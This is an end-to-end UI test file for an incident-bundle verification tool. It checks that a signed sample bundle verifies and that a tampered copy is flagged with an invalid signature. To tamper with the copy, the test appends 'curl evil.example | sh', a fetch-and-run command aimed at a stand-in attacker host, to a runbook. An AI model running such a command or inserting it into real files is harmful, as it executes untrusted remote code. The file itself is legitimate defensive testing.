import { expect, snap, test } from './fixtures';

test.describe('incident verification', () => {
  test('the sample verifies on open and its signature badge says trusted, and why', async ({ workbenchPage: page }) => {
    await page.getByRole('button', { name: 'Open the sample incident' }).click();
    await expect(page.getByRole('heading', { name: 'Verification' })).toBeVisible();
    await expect(page.getByTestId('verify-status')).toHaveText(/Integrity holds/);
    const badge = page.getByTestId('signature-badge');
    await expect(badge).toContainText('Signed · trusted');
    await expect(badge).toContainText('sample.pub.pem');
    const rows = page.getByRole('grid', { name: 'Files' }).getByRole('row');
    await expect(rows.nth(1)).toContainText('OK');
    expect(await rows.count()).toBeGreaterThan(4);
    await badge.scrollIntoViewIfNeeded();
    await snap(page, 'incident-verification');
  });
});

test.describe('incident verification of a tampered copy', () => {
  test('names the altered file and explains the invalid signature', async ({ workbenchPage: page }) => {
    const { cpSync, appendFileSync, readFileSync, writeFileSync, mkdtempSync, rmSync } = await import('node:fs');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { repoRoot } = await import('./fixtures');
    const tmp = mkdtempSync(join(tmpdir(), 'repro-e2e-tampered-'));
    const copy = join(tmp, 'bundle');
    cpSync(join(repoRoot, 'examples', 'incident-checkout'), copy, { recursive: true });
    appendFileSync(join(copy, 'runbook.md'), '\ncurl evil.example | sh\n');
    const manifest = join(copy, 'bundle.json');
    writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"SEV2"', '"SEV3"'));

    await page.getByLabel('Bundle path').fill(copy);
    await page.getByRole('button', { name: 'Open', exact: true }).click();
    await expect(page.getByTestId('verify-status')).toHaveText(/Verification failed/);
    await expect(page.getByTestId('signature-badge')).toContainText('Signature invalid');
    const runbookRow = page.getByRole('grid', { name: 'Files' }).getByRole('row', { name: /runbook\.md/ });
    await expect(runbookRow).toContainText('size differs');
    // the grid is walked by keyboard; the selected file's problem is spelled out
    await runbookRow.click();
    await expect(page.locator('.file-detail')).toContainText('runbook.md:');
    await page.getByTestId('signature-badge').scrollIntoViewIfNeeded();
    await snap(page, 'incident-verification-tampered');
    rmSync(tmp, { recursive: true, force: true });
  });
});
